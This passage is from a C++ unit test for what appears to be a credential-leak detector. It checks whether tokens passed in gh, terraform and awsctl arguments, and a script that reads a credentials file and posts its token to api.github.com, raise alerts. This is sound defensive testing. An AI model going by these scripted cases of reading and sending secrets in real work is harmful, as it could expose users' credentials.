    const std::vector<std::string> header = {
        "gh", "api", "-H", "Authorization: token SECRET", "repos/o/r/statuses/abc", "-f", "state=success"};
    CHECK(run(header, true, &session_token).empty());
    alerts = run(header, true);
    REQUIRE(alerts.size() == 1);
    match = std::find_if(alerts[0].signals.begin(), alerts[0].signals.end(),
                         [](const Signal& s) { return s.name == "content-match"; });
    REQUIRE(match != alerts[0].signals.end());
    CHECK(match->evidence.find("in the argument authorization, a signing key") != std::string::npos);
    // A credential option's or assignment's value is the tool's to sign with, not a header it sends.
    CHECK(run({"terraform", "apply", "-var", "aws_secret_access_key=SECRET"}, true).empty());
    CHECK(run({"awsctl", "--secret-access-key", "SECRET", "status"}, true).empty());

    // A script given the token as data (`notify --body TOKEN`) is not its child's command line,
    // and a flow whose plaintext was scanned is judged by what the scan saw.
    Timeline tl;
    tl.engine.set_file_reader(
        [&](const ProcessRef&, const std::string& path, std::uint64_t, std::uint64_t) -> std::optional<std::string> {
            if (path == credentials) return session_token;
            return std::nullopt;
        });
    tl.read(tl.shell, credentials, 116);
    auto script = tl.spawn(tl.shell, {"notify", "--body", secret});
    tl.feed(Event{scan_arguments(tl.engine.fingerprints(), tl.t, script)});
    auto gh = tl.spawn(script, {"gh", "api", "repos/o/r/statuses/abc", "-f", "state=success"});
    tl.transfer(gh, "api.github.com", 2600, 5200);
    CHECK(tl.alerts.empty());
    auto py = tl.spawn(tl.shell, {"python3", "post.py", "--token-file-contents", secret, "--note", secret});
    tl.feed(Event{scan_arguments(tl.engine.fingerprints(), tl.t, py)});
    auto f = tl.connect(py, "api.github.com");
    tl.plaintext(py, f.cookie,
                 "POST /repos/o/r/statuses/abc HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token " + secret +
                     "\r\nContent-Length: 2\r\n\r\n{}");
    tl.flow(py, f, "api.github.com", 2600, 5200, true);
    CHECK(tl.alerts.empty());
}
